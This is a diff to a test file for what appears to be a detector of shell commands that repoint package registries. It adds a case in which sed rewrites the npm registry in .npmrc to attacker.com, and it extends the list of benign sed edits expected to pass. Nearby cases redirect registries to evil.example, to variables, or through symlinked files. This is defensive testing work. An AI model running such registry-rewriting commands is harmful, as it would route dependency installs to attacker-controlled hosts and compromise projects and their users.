@@ -138,6 +138,7 @@ def test_the_rationale_names_the_file_and_the_host() -> None:
     "cat > .npmrc <<EOF\nregistry=https:$(printf //)evil.example/\nEOF",
     "cat > .npmrc <<EOF\nregistry=$R\nEOF",
     "tee requirements.txt <<< \"--index-url $IDX\"",
+    "sed -i 's/registry.npmjs.org/attacker.com/' .npmrc",  # a host without a scheme, put there by sed
     # a settings file that takes another file's content
     "ln -s notes.txt .npmrc",
     "git mv notes.txt requirements.txt",
@@ -234,7 +235,8 @@ def test_ordinary_settings_writes_pass(case: str) -> None:
     "echo 'export FOO=1' > .envrc", "git submodule update --init",
     "printf '%s\\n' flask requests > requirements.txt", "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" >> .npmrc",
     "cargo build --config 'profile.dev.opt-level=1'", "GIT_CONFIG_GLOBAL=/dev/null git status", "ln -sf build/out latest",
-    "git mv old.py new.py",
+    "git mv old.py new.py", "sed -i 's/app.main:run/app.cli:run/' pyproject.toml",
+    "sed -i 's/src\\/app.py/src\\/main.py/' pyproject.toml", "sed -i 's/pypi.org/files.pythonhosted.org/' pip.conf",
 ])
 def test_ordinary_commands_pass(command: str) -> None:
     a = _sh(command)
